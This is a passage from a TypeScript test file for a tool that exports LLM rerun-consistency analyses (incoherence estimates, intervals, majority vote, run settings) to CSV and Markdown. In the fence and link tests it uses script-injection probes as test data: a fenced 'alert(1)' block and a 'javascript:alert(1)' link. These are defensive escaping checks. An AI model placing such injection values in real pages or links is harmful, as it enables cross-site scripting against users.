  assert.deepEqual((JSON.parse(both.out) as ExportDocument).prompts.map((x) => x.id), ["export-partial"]);
});

test("exports carry the headline: CSV estimate, ci_low, ci_high and more_reruns; Markdown the estimate with its interval or caveat, the reruns to ±0.05 and the majority vote", () => {
  const rec = (id: string, answers: number[]) => ({ id, reference: 4, samples: answers.map((a) => ({ text: `Think.\nAnswer: ${a}`, answer: a })) });
  const analysis = analyzeRecords([rec("ten", [4, 4, 5, 6, 4, 7, 4, 4, 8, 4]), rec("three", [4, 4, 5]), rec("right", [4, 4, 4, 4, 4])]);
  const [ten, three] = analysis.prompts;
  const rows = parseCsv(exportCsv(analysis));
  const at = (name: string) => rows[0]!.indexOf(name);
  const fields = (r: string[]) => [r[at("estimate")], r[at("ci_low")], r[at("ci_high")], r[at("more_reruns")]];
  const of = (id: string) => rows.slice(1).filter((r) => r[0] === id);
  for (const r of of("ten")) assert.deepEqual(fields(r), [String(ten!.brier!.estimate), String(ten!.brier!.ci95![0]), String(ten!.brier!.ci95![1]), String(ten!.reruns!.more)], "every row of a prompt carries its headline, unrounded");
  for (const r of of("three")) assert.deepEqual(fields(r), [String(three!.brier!.estimate), "", "", String(three!.reruns!.more)], "n = 3: an estimate and no interval");
  // every rerun right: no estimate, but the interval [lower, 1] of the error it may have
  const right = analysis.prompts.find((p) => p.id === "right")!;
  for (const r of of("right")) assert.deepEqual(fields(r), ["", String(right.brier!.ci95![0]), "1", ""], "no error to split: no estimate, the interval up to 1");
  const pooled = rows.slice(1).filter((r) => r[0] === "");
  assert.ok(pooled.length > 0);
  const P = analysis.pooled.brier!;
  for (const r of pooled) assert.deepEqual(fields(r), [String(P.estimate), String(P.ci95![0]), String(P.ci95![1]), ""]);

  const md = exportMarkdown(analysis);
  const b = ten!.brier!;
  assert.ok(md.includes(`**incoherence ${b.estimate!.toFixed(3)} [${b.ci95![0].toFixed(3)}–${b.ci95![1].toFixed(3)}]**`), md);
  assert.ok(md.includes(`plug-in ${b.incoherence!.toFixed(3)}`), md);
  assert.ok(md.includes(`≈ ${ten!.reruns!.more!.toLocaleString("en-US")} more reruns to get the interval under ±0.05.`), md);
  assert.ok(md.includes(`Majority vote: majority of 1 / 3 / 5 / 10 reruns: incoherence ${ten!.ensemble!.map((r) => r.incoherence!.toFixed(2)).join(" → ")}`), md);
  assert.ok(md.includes(`**incoherence ${three!.brier!.estimate!.toFixed(3)} (n = 3: too few reruns for an interval; 8+ recommended)**`), md);
  assert.ok(md.includes("**incoherence —** (no error to split)"), md);
  assert.ok(md.includes(`| brier | ${P.bias2.toFixed(3)} | ${P.variance.toFixed(3)} | ${P.error.toFixed(3)} | ${P.estimate!.toFixed(3)} [${P.ci95![0].toFixed(3)}–${P.ci95![1].toFixed(3)}] | ${P.incoherence!.toFixed(3)} |`), md);
});

test("Markdown: an example trace per class is folded, whole, in a fence the trace's own backticks cannot close", () => {
  const fence = "```js\nalert(1)\n```";
  const samples = [18, 18, 18, 26, 26].map((x) => ({ text: `16 - 3 = 13\n${x === 18 ? "13 - 4 = 9" : fence}\n9 * 2 = ${x}\nAnswer: ${x}` }));
  const md = exportMarkdown(analyzeRecords([{ id: "ducks", reference: 18, samples }], { resamples: 0 }), { reportLink: "ducks.hotmess.html" });
  assert.match(md, /^The whole comparison view \(traces side by side, the heatmap\): \[ducks\.hotmess\.html\]\(ducks\.hotmess\.html\)\.$/m);
  const blocks = [...md.matchAll(/<details><summary>run #(\d+): (`+[^`]+`+) ✓? ?\((\d+) runs?\)<\/summary>\n\n(`{3,})text\n([\s\S]*?)\n\4\n\n<\/details>/g)];
  assert.equal(blocks.length, 2, md);
  const wrong = blocks.find((b) => b[5]!.includes("alert(1)"))!;
  assert.ok(wrong, "the wrong class's trace is shown whole");
  assert.ok(wrong[4]!.length > 3, `its fence (${wrong[4]}) is longer than the trace's own`);
  // a link that is not a plain file name beside it is not written
  assert.doesNotMatch(exportMarkdown(analyzeRecords([{ id: "d", reference: 18, samples }], { resamples: 0 }), { reportLink: "javascript:alert(1)//x.html" }), /whole comparison view/);
});

test("Markdown: each run's settings under its prompt (model, provider, reruns, max tokens, temperature, thinking) and its system prompt folded", () => {
  const samples = [18, 18, 26].map((x) => ({ text: `9 * 2 = ${x}\nAnswer: ${x}` }));
  const a = analyzeRecords([{ id: "ducks", reference: 18, samples }], { resamples: 0 });
  const md = exportMarkdown(a, { runs: [{ id: "ducks", provider: "anthropic", model: "claude-haiku-4-5", parameters: { n: 3, maxTokens: 256, temperature: 0.7, thinking: { type: "none" } }, system: "You are terse. ```Never``` explain." }] });
  assert.match(md, /^Run with `claude-haiku-4-5` \(`anthropic`\) · 3 reruns · max 256 tokens · temperature 0\.7 · no thinking$/m);
  assert.match(md, /<details><summary>system prompt \(35 characters\)<\/summary>\n\n````text\nYou are terse\. ```Never``` explain\.\n````\n\n<\/details>/);
  // a prompt without its run's settings has no such line
  assert.doesNotMatch(exportMarkdown(a), /^Run with/m);
});
